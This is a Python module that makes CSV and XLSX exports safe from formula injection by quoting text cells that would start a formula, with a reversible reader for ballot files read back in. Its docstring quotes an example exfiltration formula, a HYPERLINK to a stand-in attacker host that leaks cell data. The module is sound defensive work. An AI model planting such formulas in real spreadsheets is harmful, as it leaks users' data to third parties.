"""Cells for the spreadsheets the project writes (CSV and XLSX), safe to open: text that a
spreadsheet would run as a formula is written as text. Every CSV and XLSX export goes
through here.

OWASP's guidance on CSV injection: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return is a formula to Excel and LibreOffice, so a surname typed as
``=HYPERLINK("http://evil.example/?x="&A1,"klik")`` would become a live link that sends the
sheet's data away. Such a cell gets a single quote in front (``'=HYPERLINK(...``), which the
spreadsheet shows as text. Only text is touched: numbers and dates stay what they are.

``read_cell`` undoes ``safe_cell`` exactly, for files the project reads back (the ranked
ballots that ``manage.py tally`` recounts): a name that starts with "-" comes back as it was,
and so does one that starts with a quote ("'t Hart").
"""

import csv
import re

QUOTE = "'"
# OWASP's list, and the fullwidth signs that spreadsheets in East Asian settings read as the
# ASCII ones.
FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")
# Characters XML 1.0 cannot hold: openpyxl refuses a cell that contains one.
_NOT_IN_XML = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")


def _starts_formula(text: str) -> bool:
    """Whether the text, past any quotes and spaces in front, starts like a formula. Looking
    past the quotes makes ``safe_cell`` reversible; past the spaces, as a spreadsheet may trim
    them."""
    return text.lstrip(QUOTE + " ")[:1] in FORMULA_STARTS


def safe_cell(value):
    """``value`` as a cell: text that would start a formula with a quote in front, anything
    else (numbers, dates, empty) unchanged."""
    if isinstance(value, str) and _starts_formula(value):
        return QUOTE + value
    return value


def read_cell(text: str) -> str:
    """A cell's text as it was before ``safe_cell``."""
    if text.startswith(QUOTE) and _starts_formula(text[1:]):
        return text[1:]
    return text


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, stream, **fmtparams):
        self._writer = csv.writer(stream, **fmtparams)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def safe_csv_writer(stream, **fmtparams) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **fmtparams)


def append_safe_row(sheet, row) -> None:
    """Append ``row`` to an openpyxl worksheet: text as a string cell (never a formula, even
    where it starts with "="), after ``safe_cell``, without the control characters XML
    cannot hold; numbers and dates as they are."""
    sheet.append([_xlsx_value(value) for value in row])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def _xlsx_value(value):
    if isinstance(value, str):
        return safe_cell(_NOT_IN_XML.sub("", value))
    return value
